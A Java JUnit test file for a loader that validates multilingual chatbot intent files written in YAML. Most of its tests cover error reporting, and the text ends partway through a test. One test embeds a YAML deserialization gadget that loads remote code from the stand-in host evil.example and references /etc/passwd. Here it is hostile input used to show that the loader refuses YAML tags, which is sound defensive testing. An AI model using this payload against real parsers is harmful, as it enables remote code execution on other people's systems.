package dev.baton.intents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import dev.baton.intents.IntentDatabaseLoader.IntentSource;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IntentDatabaseLoaderTest {

    private static final String ORDERS = """
            intents:
              - id: order_status
                title: {en: "Where is my order?", it: "Dov'è il mio ordine?"}
                examples:
                  en: [where is my order, track my parcel]
                  it: [dov'è il mio ordine]
                answers:
                  en: ["You can follow your order at https://shop.example/orders."]
                  it: ["Puoi seguire il tuo ordine su https://shop.example/orders."]
                  lt: ["Užsakymą galite sekti https://shop.example/orders."]
                followUps: [delivery_times, payment_dispute]
            """;

    private static final String SHIPPING = """
            intents:
              - id: delivery_times
                examples:
                  en: [how long does delivery take]
                  fa: [ارسال چقدر طول می کشد]
                answers:
                  en: ["Two to three working days."]
                  fa: ["دو تا سه روز کاری."]
              - id: payment_dispute
                examples:
                  en: [I was charged twice]
                answers:
                  en: ["I am passing you to a colleague."]
                handoff: true
            """;

    private static IntentSource file(String name, String content) {
        return new IntentSource(name, content);
    }

    private static List<IntentFileProblem> problemsOf(IntentSource... sources) {
        InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                () -> IntentDatabaseLoader.parse(List.of(sources)));
        assertThat(e).as("loading should fail").isNotNull();
        return e.problems();
    }

    private static List<IntentFileProblem> problemsOf(String content) {
        return problemsOf(file("faq.yaml", content));
    }

    /** Asserts there is exactly one problem, at {@code line} of faq.yaml, whose message contains every fragment. */
    private static void assertSingleProblem(List<IntentFileProblem> problems, int line, String... fragments) {
        assertThat(problems).as(problems.toString()).hasSize(1);
        assertThat(problems.get(0).file()).isEqualTo("faq.yaml");
        assertThat(problems.get(0).line()).as(problems.get(0).toString()).isEqualTo(line);
        assertThat(problems.get(0).message()).contains(fragments);
    }

    // ------------------------------------------------------------------------------------------ valid databases

    @Test
    void loadsAValidMultiFileDatabaseWithEverything() {
        IntentDatabase database = IntentDatabaseLoader.parse(
                List.of(file("orders.yaml", ORDERS), file("shipping.yaml", SHIPPING)));

        assertThat(database.size()).isEqualTo(3);
        assertThat(database.intents()).extracting(Intent::id)
                .containsExactly("order_status", "delivery_times", "payment_dispute");
        assertThat(database.languages()).containsExactly("en", "fa", "it");
        assertThat(database.version()).matches("[0-9a-f]{12}");

        Intent orders = database.find("order_status").orElseThrow();
        assertThat(orders.titles()).isEqualTo(Map.of("en", "Where is my order?", "it", "Dov'è il mio ordine?"));
        assertThat(orders.examples()).isEqualTo(Map.of(
                "en", List.of("where is my order", "track my parcel"),
                "it", List.of("dov'è il mio ordine")));
        assertThat(orders.languages()).containsExactlyInAnyOrder("en", "it");
        assertThat(orders.answersIn("lt")).containsExactly("Užsakymą galite sekti https://shop.example/orders.");
        assertThat(orders.followUps()).containsExactly("delivery_times", "payment_dispute");
        assertThat(orders.handoff()).isFalse();

        Intent delivery = database.find("delivery_times").orElseThrow();
        assertThat(delivery.titleIn("fa")).contains("ارسال چقدر طول می کشد");
        assertThat(delivery.titles()).isEmpty();
        assertThat(delivery.followUps()).isEmpty();

        assertThat(database.find("payment_dispute").orElseThrow().handoff()).isTrue();
    }

    @Test
    void readsPlainWordsThatYamlWouldTakeForBooleansOrNumbersAsText() {
        IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("faq.yaml", """
                intents:
                  - id: confirm
                    examples:
                      en: [yes, on, 42, 3.5, null ok]
                      no: [ja]
                    answers:
                      en: [yes]
                      no: [ja]
                    handoff: no
                """)));

        Intent confirm = database.find("confirm").orElseThrow();
        assertThat(confirm.examples().get("en")).containsExactly("yes", "on", "42", "3.5", "null ok");
        assertThat(confirm.languages()).containsExactlyInAnyOrder("en", "no");
        assertThat(confirm.answersIn("en")).containsExactly("yes");
        assertThat(confirm.handoff()).isFalse();
    }

    @Test
    void keepsMultiLineAnswersAndTrimsSurroundingWhitespace() {
        IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("faq.yaml", """
                intents:
                  - id: returns
                    examples:
                      en: ["  how do I return an item  "]
                    answers:
                      en:
                        - |
                          Print the label.
                          Drop the parcel at any post office.
                """)));

        Intent returns = database.find("returns").orElseThrow();
        assertThat(returns.examples().get("en")).containsExactly("how do I return an item");
        assertThat(returns.answersIn("en")).containsExactly("Print the label.\nDrop the parcel at any post office.");
    }

    @Test
    void allowsAnswersInALanguageWithoutExamples() {
        IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                file("shipping.yaml", SHIPPING)));

        assertThat(database.find("order_status").orElseThrow().answersIn("lt")).hasSize(1);
        assertThat(database.languages()).doesNotContain("lt");
    }

    @Test
    void loadsTheOutOfScopeClassWithExamplesOnly() {
        IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                file("shipping.yaml", SHIPPING), file("oos.yaml", """
                intents:
                  - id: oos
                    examples:
                      en: [what's the weather like]
                      it: [che tempo fa]
                """)));

        Intent outOfScope = database.find(Intent.OUT_OF_SCOPE).orElseThrow();
        assertThat(outOfScope.examples()).containsOnlyKeys("en", "it");
        assertThat(outOfScope.answers()).isEmpty();
    }

    @Test
    void refusesAnswersForTheOutOfScopeClass() {
        List<IntentFileProblem> problems = problemsOf("""
                intents:
                  - id: oos
                    examples:
                      en: [what's the weather like]
                    answers:
                      en: ["Sunny."]
                """);

        assertSingleProblem(problems, 5, "intent \"oos\"", "never answered", "remove its answers");
    }

    @Test
    void neverConstructsObjectsFromYamlTags() {
        List<IntentFileProblem> problems = problemsOf("""
                intents:
                  - id: exploit
                    examples:
                      en: [!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]]
                    answers:
                      en: [!!java.io.File "/etc/passwd"]
                """);

        assertSingleProblem(problems, 4, "YAML tags such as \"!!java...\" are not allowed in intent files");
    }

    // ------------------------------------------------------------------------------------------ every problem at once

    @Test
    void reportsEveryProblemWithFileAndLine() {
        List<IntentFileProblem> problems = problemsOf(
                file("returns.yaml", """
                        intents:
                          - id: refunds
                            examples:
                              en: [i want my money back]
                              it: [rimborso]
                            answers:
                              en: ["Refunds take 5 days."]
                        """),
                file("orders.yaml", """
                        intents:
                          - id: Order Status
                            examples:
                              en: [I want my money back!]
                            answers:
                              en: ["See your account."]
                            followUps: [refunds, shipping]
                            handof: true
                        """));

        assertThat(problems).extracting(IntentFileProblem::toString).containsExactly(
                "returns.yaml:5: intent \"refunds\": language \"it\" has examples but no answers",
                "orders.yaml:2: intent \"Order Status\": the id \"Order Status\" is not valid; use only lowercase "
                        + "letters a-z, digits and underscores, like order_status",
                "orders.yaml:4: intent \"Order Status\": the example \"I want my money back!\" is also an example of "
                        + "intent \"refunds\" (returns.yaml:4); an example can belong to one intent only",
                "orders.yaml:7: intent \"Order Status\": the follow-up \"shipping\" is not an intent (no intent has "
                        + "this id)",
                "orders.yaml:8: intent \"Order Status\": unknown key \"handof\" (did you mean \"handoff\"?); the "
                        + "allowed keys are id, title, examples, answers, followUps, handoff, team");
    }

    @Test
    void reportsProblemsInSeveralFilesInOneExceptionInFileOrder() {
        InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                () -> IntentDatabaseLoader.parse(List.of(
                        file("a.yaml", "intents:\n  - id: a\n    examples: where is my order\n    answers: {en: [x]}\n"),
                        file("b.yaml", "intents: [\n"),
                        file("c.yaml", ""),
                        file("d.yaml", "intents:\n  - id: d\n    examples: {en: [hello]}\n    answers: {en: [hi]}\n"
                                + "    handoff: maybe\n"))));

        assertThat(e.problems()).extracting(IntentFileProblem::file, IntentFileProblem::line).containsExactly(
                tuple("a.yaml", 3),
                tuple("b.yaml", 2),
                tuple("c.yaml", 0),
                tuple("d.yaml", 5));
        assertThat(e.getMessage()).startsWith("4 problem(s) in the intent files:")
                .contains("a.yaml:3: ", "b.yaml:2: ", "c.yaml: the file is empty", "d.yaml:5: ");
    }

    // ------------------------------------------------------------------------------------------ file structure

    @Nested
    class FileStructure {

        @Test
        void reportsBadYamlSyntaxWithTheLineOfTheProblem() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: order_status
                        examples:
                          en: [where is my order]
                        answers:
                          en: Note: this text needs quotes
                    """);

            assertSingleProblem(problems, 6, "the YAML is broken here", "mapping values are not allowed here",
                    "in quotes");
        }

        @Test
        void explainsThatAQuestionMarkInsideBracketsNeedsQuotes() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: order_status
                        examples:
                          en: [where is my order?, track my parcel]
                        answers:
                          en: [x]
                    """);

            assertSingleProblem(problems, 4, "a text inside [ ] or { } contains \"?\"; put that text in quotes, "
                    + "like [\"where is my order?\"], or write the list on lines starting with \"- \"");
        }

        @Test
        void acceptsQuestionMarksInQuotedTextsAndBlockLists() {
            IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("faq.yaml", """
                    intents:
                      - id: order_status
                        title: {en: "Where is my order?"}
                        examples:
                          en: ["where is my order?", 'is it shipped?']
                          it:
                            - dov'è il mio ordine?
                        answers:
                          en:
                            - Did you check your e-mail?
                          it: ["Hai controllato la tua e-mail?"]
                    """)));

            Intent intent = database.find("order_status").orElseThrow();
            assertThat(intent.titleIn("en")).contains("Where is my order?");
            assertThat(intent.examples().get("en")).containsExactly("where is my order?", "is it shipped?");
            assertThat(intent.examples().get("it")).containsExactly("dov'è il mio ordine?");
            assertThat(intent.answersIn("en")).containsExactly("Did you check your e-mail?");
        }

        @Test
        void reportsAnUnclosedQuoteWhereItStarts() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: order_status
                        examples:
                          en: ["where is my order]
                        answers:
                          en: [x]
                    """);

            assertThat(problems).hasSize(1);
            assertThat(problems.get(0).message()).contains("the YAML is broken here", "starts on line 4");
        }

        @Test
        void reportsTabIndentation() {
            List<IntentFileProblem> problems = problemsOf("intents:\n  - id: a\n\texamples: {en: [x]}\n");

            assertSingleProblem(problems, 3, "the YAML is broken here");
        }

        @Test
        void rejectsAnEmptyFile() {
            assertSingleProblem(problemsOf(""), 0, "the file is empty");
            assertSingleProblem(problemsOf("# only a comment\n"), 0, "the file is empty");
            assertSingleProblem(problemsOf("---\n"), 0, "the file is empty");
        }

        @Test
        void rejectsATopLevelListWithoutIntents() {
            assertSingleProblem(problemsOf("- id: a\n  examples: {en: [x]}\n"), 1,
                    "the file must start with \"intents:\"", "but it is a list");
        }

        @Test
        void rejectsAFileWithoutAnIntentsList() {
            assertThat(problemsOf("intent:\n  - id: a\n")).extracting(IntentFileProblem::line, IntentFileProblem::message)
                    .containsExactly(
                            tuple(1, "unknown key \"intent\" (did you mean \"intents\"?); at the top of the file only "
                                    + "\"intents:\" is allowed"),
                            tuple(1, "the file has no \"intents:\" list"));
        }

        @Test
        void rejectsIntentsThatAreNotAList() {
            assertSingleProblem(problemsOf("intents:\n  id: a\n"), 2, "\"intents\" must be a list of intents");
            assertSingleProblem(problemsOf("intents:\n"), 1, "\"intents:\" is empty");
            assertSingleProblem(problemsOf("intents: []\n"), 1, "the intents list is empty");
        }

        @Test
        void rejectsAnIntentThatIsNotAMap() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                      - order_status
                    """);

            assertSingleProblem(problems, 5, "intent number 2 must be a map", "but it is the text \"order_status\"");
        }

        @Test
        void rejectsASecondYamlDocument() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                    ---
                    intents:
                      - id: b
                    """);

            assertSingleProblem(problems, 6, "a second YAML document");
        }

        @Test
        void rejectsAKeyWrittenTwice() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples:
                          en: [hello]
                          en: [hi]
                        answers: {en: [y]}
                    """);

            assertSingleProblem(problems, 5, "intent \"a\": in \"examples\", \"en\" is written twice (also on line 4)");
        }

        @Test
        void rejectsAFileOverTwoMegabytes() {
            String huge = "intents:\n" + "# padding padding padding padding padding padding padding padding\n"
                    .repeat(40_000);

            assertSingleProblem(problemsOf(huge), 0, "the limit is 2 MB");
        }

        @Test
        void rejectsACharacterThatYamlDoesNotAllow() {
            assertSingleProblem(problemsOf("intents:\n  - id: a\n    examples: {en: [x\u0007]}\n"), 3,
                    "a character that is not allowed");
        }
    }

    // ------------------------------------------------------------------------------------------ one intent

    @Nested
    class Intents {

        @Test
        void rejectsUnknownKeysAndNamesTheAllowedOnes() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                        priority: 3
                    """);

            assertSingleProblem(problems, 5, "intent \"a\": unknown key \"priority\"; the allowed keys are id, title, "
                    + "examples, answers, followUps, handoff, team");
        }

        @Test
        void suggestsTheKeyThatWasMeant() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                        followups: [b]
                    """);

            assertThat(problems).singleElement().extracting(IntentFileProblem::message).asString()
                    .contains("unknown key \"followups\" (did you mean \"followUps\"?)");
        }

        @Test
        void rejectsWrongTypes() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        title: ["Where is my order?"]
                        examples: where is my order
                        answers:
                          en: "You can follow it online."
                        followUps: b
                        handoff: "true"
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(3, "intent \"a\": \"title\" must be a map from language to a short label, like  title: "
                            + "{en: \"Where is my order?\"}, but it is a list"),
                    tuple(4, "intent \"a\": \"examples\" must be a map from language to a list of examples, like  "
                            + "en: [where is my order], but it is the text \"where is my order\""),
                    tuple(6, "intent \"a\": the answers in \"en\" must be a list (in [ ] or on lines starting with "
                            + "\"- \"), but it is the text \"You can follow it online.\""),
                    tuple(7, "intent \"a\": \"followUps\" must be a list of intent ids, like  followUps: "
                            + "[delivery_times], but it is the text \"b\""),
                    tuple(8, "intent \"a\": \"handoff\" must be true or false (without quotes), but it is the text "
                            + "\"true\""));
        }

        @Test
        void explainsAnExampleThatYamlReadAsAMapBecauseOfAColon() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples:
                          en:
                            - hello
                            - order number: 123
                        answers: {en: [y]}
                    """);

            assertSingleProblem(problems, 6, "an example in \"en\" must be a text, but it is a map",
                    "put it in quotes");
        }

        @Test
        void rejectsAMissingId() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                      - examples: {en: [z]}
                        answers: {en: [y]}
                    """);

            assertSingleProblem(problems, 5, "intent number 2 (it has no id): add an id, like  id: order_status");
        }

        @Test
        void rejectsMalformedIds() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: Order-Status
                        examples: {en: [x]}
                        answers: {en: [y]}
                      - id:
                        examples: {en: [z]}
                        answers: {en: [y]}
                      - id: [a, b]
                        examples: {en: [w]}
                        answers: {en: [y]}
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(2, "intent \"Order-Status\": the id \"Order-Status\" is not valid; use only lowercase "
                            + "letters a-z, digits and underscores, like order_status"),
                    tuple(5, "intent number 2 (it has no id): the id is empty; write one, like  id: order_status"),
                    tuple(8, "intent number 3 (it has no id): the id must be a single name like order_status, but "
                            + "it is a list"));
        }

        @Test
        void rejectsADuplicateIdAndPointsToTheFirst() {
            List<IntentFileProblem> problems = problemsOf(
                    file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING),
                    file("more.yaml", """
                            intents:
                              - examples: {en: [where is the parcel]}
                                answers: {en: [y]}
                                id: order_status
                            """));

            assertThat(problems).extracting(IntentFileProblem::toString).containsExactly(
                    "more.yaml:4: the intent id \"order_status\" is already used by the intent at orders.yaml:2; "
                            + "every id must be unique");
        }

        @Test
        void rejectsAnIntentWithoutExamples() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        answers: {en: [y]}
                    """);

            assertSingleProblem(problems, 2, "intent \"a\": has no examples");
        }

        @Test
        void rejectsAnIntentWithoutAnswers() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                    """);

            assertSingleProblem(problems, 2, "intent \"a\": has no answers");
        }

        @Test
        void rejectsEmptyTextsAndEmptyLists() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        title: {en: ""}
                        examples:
                          en: [hello, "  ", ~]
                          it: []
                          lt:
                        answers:
                          en: [""]
                          it: [ciao]
                          lt: [labas]
                      - id: b
                        examples: {}
                        answers: {en: [y]}
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(3, "intent \"a\": the title in \"en\" is empty"),
                    tuple(5, "intent \"a\": an example in \"en\" is empty"),
                    tuple(5, "intent \"a\": an example in \"en\" is empty"),
                    tuple(6, "intent \"a\": the examples in \"it\" are an empty list; add at least one example"),
                    tuple(7, "intent \"a\": the examples in \"lt\" are missing; add at least one example"),
                    tuple(9, "intent \"a\": an answer in \"en\" is empty"),
                    tuple(13, "intent \"b\": \"examples\" is empty; add at least one language"));
        }

        @Test
        void rejectsMalformedLanguageCodes() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        title: {English: Hello}
                        examples:
                          en: [hello]
                          IT: [ciao]
                        answers:
                          en: [hi]
                          it_IT: [ciao]
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(3, "intent \"a\": in \"title\", \"English\" is not a language code; use two lowercase "
                            + "letters such as en, it, lt, fa"),
                    tuple(6, "intent \"a\": in \"examples\", \"IT\" is not a language code; use two lowercase "
                            + "letters such as en, it, lt, fa"),
                    tuple(9, "intent \"a\": in \"answers\", \"it_IT\" is not a language code; use two lowercase "
                            + "letters such as en, it, lt, fa"));
        }

        @Test
        void rejectsALanguageWithExamplesButNoAnswers() {
            List<IntentFileProblem> problems = problemsOf(file("returns.yaml", """
                    intents:
                      - id: refunds
                        examples:
                          en: [i want my money back]
                          it: [rimborso]
                        answers:
                          en: ["Refunds take 5 days."]
                    """));

            assertThat(problems).extracting(IntentFileProblem::toString)
                    .containsExactly("returns.yaml:5: intent \"refunds\": language \"it\" has examples but no answers");
        }

        @Test
        void rejectsTextsOverTwoThousandCharacters() {
            String longAnswer = "a".repeat(2_001);
            String longestAllowed = "b".repeat(2_000);
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [%s]}
                        answers: {en: [%s]}
                    """.formatted(longestAllowed, longAnswer));

            assertSingleProblem(problems, 4, "an answer in \"en\" is 2001 characters long; the limit is 2000");
        }

        @Test
        void rejectsHandoffThatIsNotABoolean() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                        handoff: always
                    """);

            assertSingleProblem(problems, 5, "\"handoff\" must be true or false", "the text \"always\"");
        }

        @Test
        void readsTheTeamThatTakesAnIntent() {
            IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("faq.yaml", """
                    intents:
                      - id: refund
                        examples: {en: [money back]}
                        answers: {en: [y]}
                        team: billing
                      - id: hello
                        examples: {en: [hi]}
                        answers: {en: [hello]}
                    """)));

            assertThat(database.find("refund").orElseThrow().team()).contains("billing");
            assertThat(database.find("hello").orElseThrow().team()).isEmpty();
        }

        @Test
        void rejectsATeamThatIsNotAName() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [x]}
                        answers: {en: [y]}
                        team: Billing Team
                    """);

            assertSingleProblem(problems, 5, "\"team\" must be a team's name", "the text \"Billing Team\"");
        }
    }

    // ------------------------------------------------------------------------------------------ examples

    @Nested
    class Examples {

        @Test
        void rejectsTheSameExampleUnderTwoIntents() {
            List<IntentFileProblem> problems = problemsOf(
                    file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING),
                    file("tracking.yaml", """
                            intents:
                              - id: tracking
                                examples:
                                  en:
                                    - where is my parcel
                                    - "  Where   is my ORDER?! "
                                answers: {en: [y]}
                            """));

            assertThat(problems).extracting(IntentFileProblem::toString).containsExactly(
                    "tracking.yaml:6: intent \"tracking\": the example \"Where   is my ORDER?!\" is also an example "
                            + "of intent \"order_status\" (orders.yaml:5); an example can belong to one intent only");
        }

        @Test
        void comparesExamplesAfterUnicodeNormalisation() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples: {en: [ｗｈｅｒｅ is my order]}
                        answers: {en: [y]}
                      - id: b
                        examples:
                          en: [where is my order]
                          fa: [سفارش من کجاست؟]
                        answers: {en: [y], fa: [z]}
                      - id: c
                        examples: {fa: [سفارش من کجاست]}
                        answers: {fa: [z]}
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(7, "intent \"b\": the example \"where is my order\" is also an example of intent \"a\" "
                            + "(faq.yaml:3); an example can belong to one intent only"),
                    tuple(11, "intent \"c\": the example \"سفارش من کجاست\" is also an example of intent \"b\" "
                            + "(faq.yaml:8); an example can belong to one intent only"));
        }

        @Test
        void rejectsTheSameExampleTwiceInOneIntent() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: a
                        examples:
                          en:
                            - where is my order
                            - track my parcel
                            - Where is my order?
                        answers: {en: [y]}
                    """);

            assertSingleProblem(problems, 7, "intent \"a\": the example \"Where is my order?\" appears twice in \"en\" "
                    + "(also on line 5); remove one");
        }

        @Test
        void allowsTheSameWordInTwoLanguagesOfOneIntent() {
            IntentDatabase database = IntentDatabaseLoader.parse(List.of(file("faq.yaml", """
                    intents:
                      - id: thanks
                        examples: {en: [ok, thanks], it: [ok, grazie]}
                        answers: {en: [You're welcome!], it: [Prego!]}
                    """)));

            assertThat(database.find("thanks").map(Intent::languages)).contains(java.util.Set.of("en", "it"));
        }

        @Test
        void normalisesExamplesToASimpleKey() {
            assertThat(IntentDatabaseLoader.exampleKey("  Where\tis  my\u00A0ORDER ?!. ")).isEqualTo("where is my order");
            assertThat(IntentDatabaseLoader.exampleKey("ﬁnd my order")).isEqualTo("find my order");
            assertThat(IntentDatabaseLoader.exampleKey("why?? no, really")).isEqualTo("why?? no, really");
        }
    }

    // ------------------------------------------------------------------------------------------ follow-ups

    @Nested
    class FollowUps {

        @Test
        void rejectsFollowUpsNamingAnUnknownIntentOrItself() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: order_status
                        examples: {en: [where is my order]}
                        answers: {en: [y]}
                        followUps:
                          - delivery_time
                          - order_status
                          - refunds
                      - id: delivery_times
                        examples: {en: [how long is delivery]}
                        answers: {en: [y]}
                        followUps: [order_status, order_status]
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(6, "intent \"order_status\": the follow-up \"delivery_time\" is not an intent (no intent "
                            + "has this id) (did you mean \"delivery_times\"?)"),
                    tuple(7, "intent \"order_status\": lists itself as a follow-up; remove it from \"followUps\""),
                    tuple(8, "intent \"order_status\": the follow-up \"refunds\" is not an intent (no intent has this "
                            + "id)"),
                    tuple(12, "intent \"delivery_times\": the follow-up \"order_status\" is listed twice (also on "
                            + "line 12)"));
        }

        @Test
        void refusesAFollowUpWithoutATitleInALanguageTheIntentAnswersIn() {
            List<IntentFileProblem> problems = problemsOf("""
                    intents:
                      - id: exchanges
                        title: {en: Exchanges, fa: تعویض کالا}
                        examples: {en: [can I swap it], fa: [میشه عوضش کنم]}
                        answers: {en: [y], fa: [z]}
                        followUps: [size_guide]
                      - id: size_guide
                        title: {en: Sizes and capacity}
                        examples: {en: [how big is the teapot]}
                        answers: {en: [y]}
                    """);

            assertThat(problems).extracting(IntentFileProblem::line, IntentFileProblem::message).containsExactly(
                    tuple(6, "intent \"exchanges\": answers in \"fa\" but its follow-up \"size_guide\" has no title "
                            + "in \"fa\", so its button would not be in the visitor's language; add them to the "
                            + "\"title\" of intent \"size_guide\" (faq.yaml:7)"));
        }

        @Test
        void resolvesFollowUpsAcrossFiles() {
            IntentDatabase database = IntentDatabaseLoader.parse(List.of(
                    file("shipping.yaml", SHIPPING), file("orders.yaml", ORDERS)));

            assertThat(database.find("order_status").orElseThrow().followUps())
                    .allSatisfy(id -> assertThat(database.find(id)).isPresent());
        }

        @Test
        void doesNotBlameFollowUpsIntoAFileThatCouldNotBeParsed() {
            List<IntentFileProblem> problems = problemsOf(
                    file("orders.yaml", ORDERS),
                    file("shipping.yaml", "intents:\n  - id: delivery_times\n    examples: {en: [x]\n"));

            assertThat(problems).extracting(IntentFileProblem::file).containsExactly("shipping.yaml");
        }
    }

    // ------------------------------------------------------------------------------------------ version

    @Nested
    class Version {

        @Test
        void isStableForTheSameFiles() {
            String first = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING))).version();
            String second = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING))).version();

            assertThat(first).isEqualTo(second).matches("[0-9a-f]{12}");
        }

        @Test
        void changesWhenContentChanges() {
            String before = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING))).version();
            String after = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS.replace("track my parcel",
                    "track my package")), file("shipping.yaml", SHIPPING))).version();
            String commentOnly = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS + "# reviewed\n"),
                    file("shipping.yaml", SHIPPING))).version();

            assertThat(after).isNotEqualTo(before);
            assertThat(commentOnly).isNotEqualTo(before);
        }

        @Test
        void changesWhenAFileIsRenamedOrTheOrderChanges() {
            String before = IntentDatabaseLoader.parse(List.of(file("orders.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING))).version();
            String renamed = IntentDatabaseLoader.parse(List.of(file("orders2.yaml", ORDERS),
                    file("shipping.yaml", SHIPPING))).version();
            String reordered = IntentDatabaseLoader.parse(List.of(file("shipping.yaml", SHIPPING),
                    file("orders.yaml", ORDERS))).version();

            assertThat(renamed).isNotEqualTo(before);
            assertThat(reordered).isNotEqualTo(before);
        }
    }

    // ------------------------------------------------------------------------------------------ files and folders

    @Nested
    class FromDisk {

        @TempDir
        Path dir;

        private void write(String name, String content) throws Exception {
            Path file = dir.resolve(name);
            Files.createDirectories(file.getParent());
            Files.writeString(file, content, StandardCharsets.UTF_8);
        }

        @Test
        void loadsEveryYamlFileOfADirectoryRecursivelyInSortedOrder() throws Exception {
            write("shop/shipping.yml", SHIPPING);
            write("orders.yaml", ORDERS);
            write("notes.txt", "not an intent file");
            write(".github/workflows/ci.yml", "on: push\n");

            IntentDatabase database = IntentDatabaseLoader.load(dir);

            assertThat(database.intents()).extracting(Intent::id)
                    .containsExactly("order_status", "delivery_times", "payment_dispute");
            assertThat(database.version()).isEqualTo(IntentDatabaseLoader.parse(List.of(
                    file("orders.yaml", ORDERS), file("shop/shipping.yml", SHIPPING))).version());
        }

        @Test
        void reportsProblemsWithFileNamesRelativeToTheDirectory() throws Exception {
            write("orders.yaml", ORDERS);
            write("shop/shipping.yaml", SHIPPING.replace("handoff: true", "handoff: sometimes"));
            write("shop/returns.yaml", "intents:\n  - id: returns\n    examples: {en: [x]}\n");

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(dir));

            assertThat(e.problems()).extracting(IntentFileProblem::file, IntentFileProblem::line).containsExactly(
                    tuple("shop/returns.yaml", 2),
                    tuple("shop/shipping.yaml", 14));
        }

        @Test
        void loadsASingleFile() throws Exception {
            write("all.yaml", ORDERS.replace("followUps: [delivery_times, payment_dispute]", "handoff: false"));

            IntentDatabase database = IntentDatabaseLoader.load(dir.resolve("all.yaml"));

            assertThat(database.intents()).extracting(Intent::id).containsExactly("order_status");
        }

        @Test
        void reportsTheFileNameOfASingleFile() throws Exception {
            write("all.yaml", "intents:\n  - id: x\n");

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(dir.resolve("all.yaml")));

            assertThat(e.problems()).extracting(IntentFileProblem::file).containsOnly("all.yaml");
        }

        @Test
        void reportsAMissingPath() {
            Path missing = dir.resolve("nowhere");

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(missing));

            assertThat(e.problems()).containsExactly(
                    new IntentFileProblem(missing.toString(), 0, "this file or folder does not exist"));
        }

        @Test
        void reportsADirectoryWithoutYamlFiles() throws Exception {
            write("notes.txt", "hello");

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(dir));

            assertThat(e.problems()).singleElement().extracting(IntentFileProblem::message).asString()
                    .contains("no intent files");
        }

        @Test
        void reportsAFileThatIsNotUtf8() throws Exception {
            write("orders.yaml", ORDERS);
            Files.write(dir.resolve("latin1.yaml"), "intents:\n  - id: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(dir));

